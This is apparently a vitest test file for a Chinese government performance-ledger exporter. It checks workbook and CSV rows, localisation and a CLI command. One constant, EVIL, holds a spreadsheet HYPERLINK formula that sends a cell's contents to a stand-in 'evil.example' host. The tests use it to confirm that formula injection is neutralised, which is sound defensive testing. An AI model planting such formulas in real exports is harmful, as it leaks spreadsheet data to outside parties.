// The ledger (台账): rows built from a cycle's status, targets, evidence, marks and audit, in words
// (names, not ids), as a workbook read back with exceljs and as CSV; then `perfcycle ledger` as a user
// runs it against a real dev server.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StatusView } from '../../client/cycle-client.js';
import { auditXlsx, deliverableRows, ledgerCsv, ledgerFileName, ledgerXlsx, targetRows, type LedgerSource } from '../../client/ledger.js';
import type { AuditEntry } from '../../domain/audit.js';
import type { Target } from '../../domain/targets.js';
import type { DeliverableSnapshot } from '../../workflows/definitions.js';
import { readWorkbook, sheetRecords } from '../helpers/workbook.js';
import { cliServer, runCli, startCycle, type CliServer } from '../helpers/cli.js';
import { exampleCycle, tempDir } from '../helpers/cycle.js';

const input = exampleCycle('ledger'); // the 2019 calendar
const cycleId = input.cycleId;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

function snap(d: Partial<DeliverableSnapshot> & Pick<DeliverableSnapshot, 'id' | 'owner' | 'state' | 'due'>, overdueDays = 0) {
  return { kind: 'summary' as const, title: { zh: `事项 ${d.id}`, en: d.id }, stage: 0, actors: [], submissions: [], reviews: [], version: 1, overdueDays, ...d };
}

const target = (id: string, title: string, extra: Partial<Target> = {}): Target => ({
  id, title, category: 'key', group: 'functional', points: 8, leader: 'leader-li', departments: ['landuse', 'planning'], leadDepartment: 'landuse',
  person: '陈志强', due: '2019-12-31', quality: '质量', progress: '进度', ...extra,
});

const audit: AuditEntry[] = [
  { seq: 1, at: '2019-12-01T00:00:01+08:00', actor: 'system', role: 'system', action: 'deliverable-opened', subject: 'plan', detail: 'owner=office-lin due=2019-12-31T23:59:59.999+08:00', workflowId: cycleId },
  { seq: 2, at: '2020-01-05T10:32:00+08:00', actor: 'office-lin', role: 'coordinator', action: 'submitted', subject: 'plan', detail: EVIL, workflowId: cycleId },
  { seq: 3, at: '2020-01-29T09:00:00+08:00', actor: 'head-zheng', role: 'owner:planning', action: 'refused', subject: 'summary-landuse', detail: 'submit: 无权', workflowId: cycleId },
  { seq: 4, at: '2020-02-15T00:00:05+08:00', actor: 'system', role: 'system', action: 'deliverable-closed', subject: 'evidence-law', detail: '考评窗口已关闭', workflowId: cycleId },
];

const status = {
  cycleId, unit: input.unit, year: 2019, timeZone: input.timeZone, phase: 'summary', phaseLabel: { zh: '分析总结', en: 'Analysis and summary' },
  dates: input.dates, reviewWindow: 'not-open', asOf: '2020-02-03T02:00:00.000Z',
  deliverables: [
    // Handed in 5 days after its deadline, pre-approved by HR, approved by the leading group.
    snap({
      id: 'plan', kind: 'plan', title: { zh: '绩效评估工作方案及"三定"规定', en: 'plan' }, owner: 'office-lin', state: 'accepted', due: '2020-01-10T23:59:59.999+08:00',
      submissions: [{ at: '2020-01-05T10:32:00+08:00', by: 'office-lin', files: [] }],
      reviews: [{ at: '2020-01-06T09:00:00+08:00', by: 'hr-reviewer', role: 'hrReviewer', decision: 'approved' },
        { at: '2020-01-08T15:00:00+08:00', by: 'efficiency-group', role: 'approver', decision: 'approved' }],
    }),
    snap({ id: 'summary-planning', department: 'planning', owner: 'head-zheng', state: 'open', due: '2020-01-31T23:59:59.999+08:00', actors: ['head-zheng'] }, 3),
    snap({
      id: 'summary-landuse', department: 'landuse', owner: 'head-cai', state: 'in-review', due: '2020-01-27T23:59:59.999+08:00', actors: ['leader-li'],
      submissions: [{ at: '2020-01-20T16:00:00+08:00', by: 'head-cai', files: [] }],
    }),
    snap({ id: 'evidence-law', kind: 'evidence', department: 'law', owner: 'head-xu', state: 'closed', due: '2020-02-10T23:59:59.999+08:00' }),
  ],
} as StatusView;

const src: LedgerSource = {
  input, status, audit,
  targets: [target('T01', '保障重点项目用地'), target('T02', EVIL, { category: 'routine', departments: ['planning'], leadDepartment: 'planning', leader: 'leader-wang' })],
  evidence: [
    { seq: 1, targetId: 'T01', category: 'paper', file: { name: 'a.pdf', sha256: 'a'.repeat(64), size: 1 }, by: 'head-cai', at: '2020-01-03T11:00:00+08:00' },
    { seq: 2, targetId: 'T01', category: 'image', file: { name: 'b.png', sha256: 'b'.repeat(64), size: 1 }, by: 'head-zheng', at: '2020-01-04T11:00:00+08:00' },
  ],
  marks: [
    { targetId: 'T01', mark: 7, by: 'review-gov', at: '2020-02-01T10:00:00+08:00' },
    { targetId: 'T01', mark: 7.5, by: 'review-hr', at: '2020-02-02T10:00:00+08:00', reason: '复核更正' },
  ],
};

describe('the ledger rows', () => {
  it('deliverables: owner\'s due date, state, last submission, final approval, days late; the later phases 未开始', () => {
    const rows = deliverableRows(src);
    const by = (id: string) => rows.find((r) => r.id === id)!;
    // In review its snapshot's due is the reviewer's; the ledger keeps the owner's, from the audit.
    expect(by('plan')).toMatchObject({
      state: 'accepted', due: '2019-12-31T23:59:59.999+08:00', submittedBy: 'office-lin', approvedBy: 'efficiency-group', approvedAt: '2020-01-08T15:00:00+08:00', daysLate: 5, leader: 'director-zhang',
    });
    expect(by('summary-planning')).toMatchObject({ state: 'open', daysLate: 3, leader: 'leader-wang', departments: ['planning'] });
    expect(by('summary-landuse')).toMatchObject({ state: 'in-review', daysLate: 0, leader: 'leader-li' });
    expect(by('summary-landuse').approvedBy).toBeUndefined();
    // Closed at 2020-02-15 without evidence, due 2020-02-10.
    expect(by('evidence-law')).toMatchObject({ state: 'closed', daysLate: 5 });
    expect(rows.filter((r) => r.state === 'not-started').map((r) => r.id)).toEqual(['result', 'bonus-list', 'rectification']);
    expect(by('result')).toMatchObject({ owner: 'efficiency-office', due: '2020-03-31T23:59:59.999+08:00' });
  });

  it('targets: owner the lead department\'s head, evidence as submission, the latest mark as approval', () => {
    const [t1, t2] = targetRows(src);
    expect(t1).toMatchObject({ state: 'accepted', owner: 'head-cai', submittedBy: 'head-zheng', evidence: 2, approvedBy: 'review-hr', mark: 7.5, daysLate: 3, category: 'key' });
    // No evidence yet: 2019-12-31 to 2020-02-03.
    expect(t2).toMatchObject({ state: 'open', owner: 'head-zheng', leader: 'leader-wang', evidence: 0, daysLate: 34 });
    expect(targetRows({ ...src, status: { ...status, phase: 'closed' } })[1]!.state).toBe('closed');
  });
});

describe('the ledger as a workbook and as CSV', () => {
  it('has Chinese sheets with frozen headers; names, not ids; real Excel dates; formulas stay text', async () => {
    const wb = await readWorkbook(await ledgerXlsx(src));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['事项台账', '目标台账', '审计记录', '说明']);
    const items = wb.getWorksheet('事项台账')!;
    expect(items.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect((items.getRow(1).values as string[]).slice(1, 19)).toEqual([
      '编号', '名称', '科室', '科室代码', '负责人', '负责人代码', '责任领导', '责任领导代码', '截止时间', '截止日期', '截止时间（ISO）',
      '状态', '状态代码', '提交时间', '提交人', '通过时间', '审批人', '逾期天数',
    ]);
    expect(items.getColumn(2).width).toBeGreaterThan(20);
    const rows = sheetRecords(items);
    const plan = rows.find((r) => r['编号'] === 'plan')!;
    expect(plan['负责人']).toBe('林晓燕（局办公室）');
    expect(plan['负责人代码']).toBe('office-lin');
    expect(plan['审批人']).toBe('市机关效能建设领导小组');
    expect(plan['状态']).toBe('已通过');
    expect(plan['截止时间']).toBe('2019年12月31日（周二）24:00');
    expect(plan['截止时间（ISO）']).toBe('2019-12-31T23:59:59.999+08:00');
    expect(plan['截止日期']).toEqual(new Date('2019-12-31T00:00:00Z'));
    expect(plan['提交时间']).toEqual(new Date('2020-01-05T10:32:00Z'));
    expect(items.getCell(`N${rows.indexOf(plan) + 2}`).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(plan['逾期天数']).toBe(5);
    const planning = rows.find((r) => r['编号'] === 'summary-planning')!;
    expect(planning).toMatchObject({ 科室: '规划科', 科室代码: 'planning', 负责人: '郑伟（规划科科长）', 责任领导: '王志明（副局长）', 状态: '待提交', 当前办理人: '郑伟（规划科科长）' });
    expect(rows.find((r) => r['编号'] === 'rectification')!['状态']).toBe('未开始');

    const targets = sheetRecords(wb.getWorksheet('目标台账')!);
    expect(targets[0]).toMatchObject({ 编号: 'T01', 科室: '耕地保护与利用科、规划科', 负责人: '蔡明（耕地保护与利用科科长）', 得分: 7.5, 审批人: '考评组（市人社局）', 逾期天数: 3 });
    // Text that looks like a formula is a string cell in the workbook: Excel never evaluates it.
    const evil = wb.getWorksheet('目标台账')!.getCell('B3');
    expect(evil.value).toBe(EVIL);
    expect(evil.type).toBe(ExcelJS.ValueType.String);

    const log = sheetRecords(wb.getWorksheet('审计记录')!);
    expect(log[2]).toMatchObject({ 序号: 3, 操作人: '郑伟（规划科科长）', 操作人代码: 'head-zheng', 角色: '科室负责人（规划科）', 对象: '事项 summary-landuse', 对象代码: 'summary-landuse' });
    expect(log[0]).toMatchObject({ 操作人: '系统', 时间: new Date('2019-12-01T00:00:00Z') });
    const about = sheetRecords(wb.getWorksheet('说明')!);
    expect(about.find((r) => r['项目'] === '统计时间')!['内容']).toBe('2020-02-03 10:00');
  });

  it('CSV: BOM, one table of deliverables and targets, every formula-like cell neutralised', () => {
    const text = ledgerCsv(src);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r['类型'])).toEqual([...Array(7).fill('事项'), '目标', '目标']);
    expect(rows[0]).toMatchObject({ 编号: 'plan', 负责人: '林晓燕（局办公室）', 截止日期: '2019-12-31', 提交时间: '2020-01-05 10:32', 逾期天数: '5', 得分: '' });
    const t2 = rows.find((r) => r['编号'] === 'T02')!;
    expect(t2['名称']).toBe(`'${EVIL}`);
    expect(t2['逾期天数']).toBe('34');
    expect(text).not.toMatch(/(^|,)"?=/m);
  });

  it('in English when asked: sheets, headers, states, roles and titles; names and codes as they are; CSV keeps its BOM', async () => {
    const wb = await readWorkbook(await ledgerXlsx(src, 'en'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Items', 'Targets', 'Audit log', 'About']);
    const rows = sheetRecords(wb.getWorksheet('Items')!);
    const plan = rows.find((r) => r['Id'] === 'plan')!;
    expect(plan).toMatchObject({ Title: 'plan', Owner: '林晓燕（局办公室）', 'Owner id': 'office-lin', State: 'Accepted', 'State code': 'accepted', 'Days late': 5 });
    expect(plan['Due']).toBe('Tue 31 December 2019, 24:00');
    expect(rows.find((r) => r['Id'] === 'rectification')!['State']).toBe('Not open yet');
    expect(sheetRecords(wb.getWorksheet('Targets')!)[0]).toMatchObject({ Id: 'T01', Category: 'key', Department: '耕地保护与利用科, 规划科' });
    const log = sheetRecords(wb.getWorksheet('Audit log')!);
    expect(log[2]).toMatchObject({ Actor: '郑伟（规划科科长）', Role: 'Department head (规划科)', Action: 'Refused', 'Action code': 'refused' });
    // Each entry told as the audit page tells it, beside the codes.
    expect(log[2]!['Entry']).toMatch(/^郑伟（规划科科长） tried to .* and was refused/);
    expect(log[0]).toMatchObject({ Actor: 'System' });
    expect(sheetRecords(wb.getWorksheet('About')!).find((r) => r['Item'] === 'As of')!['Content']).toBe('2020-02-03 10:00');
    // No Chinese header is left behind in English.
    for (const sheet of wb.worksheets) expect((sheet.getRow(1).values as unknown[]).join(' ')).not.toMatch(/[\u4e00-\u9fff]/);

    const text = ledgerCsv(src, 'en');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const csv = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(csv.map((r) => r['Type'])).toEqual([...Array(7).fill('Item'), 'Target', 'Target']);
    expect(csv[0]).toMatchObject({ Id: 'plan', State: 'Accepted', 'Due date': '2019-12-31' });
    const audited = sheetRecords((await readWorkbook(await auditXlsx(src, audit.slice(1, 2), 'en'))).worksheets[0]!);
    expect(audited).toMatchObject([{ 'No.': 2, Actor: '林晓燕（局办公室）', Subject: 'plan' }]);
    expect(ledgerFileName(input, 'ledger', 'csv', 'en')).toBe('晋江市自然资源局 2019 performance ledger.csv');
  });

  it('the audit alone; download names with the unit and year, safe for a file system', async () => {
    const wb = await readWorkbook(await auditXlsx(src, audit.slice(1, 2)));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['审计记录']);
    expect(sheetRecords(wb.worksheets[0]!)).toMatchObject([{ 序号: 2, 操作人: '林晓燕（局办公室）', 详情: EVIL, 对象: '绩效评估工作方案及"三定"规定' }]);
    expect(ledgerFileName(input, 'ledger', 'xlsx')).toBe('晋江市自然资源局2019年度绩效评估台账.xlsx');
    expect(ledgerFileName({ unit: { id: 'x', name: 'a/b\\c:"d"\n' }, year: 2020 }, 'audit', 'csv')).toBe('a_b_c__d__2020年度绩效评估审计记录.csv');
  });
});

describe('perfcycle ledger', () => {
  const dir = tempDir('ledger-cli');
  let server: CliServer;
  let id: string;
  const year = new Date().getFullYear();

  beforeAll(async () => {
    server = await cliServer(dir);
    // This year's calendar: nothing overdue, nothing escalated.
    id = await startCycle(server.client, exampleCycle('ledger-cli', (f) => { f.year = year; f.calendar = {}; }));
  });
  afterAll(async () => {
    await server?.close();
  });

  it('--out a .xlsx: the workbook of the running cycle, names not ids', async () => {
    const file = join(dir, 'out', 'ledger.xlsx');
    const r = await runCli(['ledger', id, '--out', file], server.cliEnv);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/事项 20 项、目标 0 项、审计 \d+ 条/);
    const wb = await readWorkbook(readFileSync(file));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['事项台账', '目标台账', '审计记录', '说明']);
    const plan = sheetRecords(wb.getWorksheet('事项台账')!).find((r) => r['编号'] === 'plan')!;
    expect(plan).toMatchObject({ 负责人: '林晓燕（局办公室）', 状态: '待提交', 逾期天数: 0, 截止日期: new Date(`${year}-12-31T00:00:00Z`) });
    expect(sheetRecords(wb.getWorksheet('审计记录')!).find((e) => e['动作代码'] === 'cycle-started')).toMatchObject({ 动作: '启动周期', 记录: expect.stringContaining('启动了') });
  });

  it('--out a .csv with the BOM; another file type or an unknown cycle is an error, exit 1', async () => {
    const file = join(dir, 'ledger.csv');
    expect((await runCli(['ledger', id, '--out', file], server.cliEnv)).code).toBe(0);
    const bytes = readFileSync(file);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.toString('utf8')).toContain('事项,plan,"绩效评估工作方案');
    const txt = await runCli(['ledger', id, '--out', join(dir, 'ledger.txt')], server.cliEnv);
    expect(txt.code).toBe(1);
    expect(txt.stderr).toContain('--out: 应为 .xlsx 或 .csv 文件');
    const none = await runCli(['ledger', 'perfcycle-nobody-2019', '--out', file], server.cliEnv);
    expect(none.code).toBe(1);
    expect(none.stderr).toContain('no such cycle');
  });

  it('--lang en: English sheets and headers; another language is an error before anything is read', async () => {
    const file = join(dir, 'ledger-en.xlsx');
    const r = await runCli(['ledger', id, '--out', file, '--lang', 'en'], server.cliEnv);
    expect([r.code, r.stderr]).toEqual([0, '']);
    const wb = await readWorkbook(readFileSync(file));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Items', 'Targets', 'Audit log', 'About']);
    expect(sheetRecords(wb.getWorksheet('Items')!).find((row) => row['Id'] === 'plan')).toMatchObject({ Owner: '林晓燕（局办公室）', State: 'Open' });
    const fr = await runCli(['ledger', 'perfcycle-nobody-2019', '--out', file, '--lang', 'fr'], server.cliEnv);
    expect([fr.code, fr.stderr]).toEqual([1, expect.stringContaining('--lang: 应为 zh 或 en')]);
  });
});
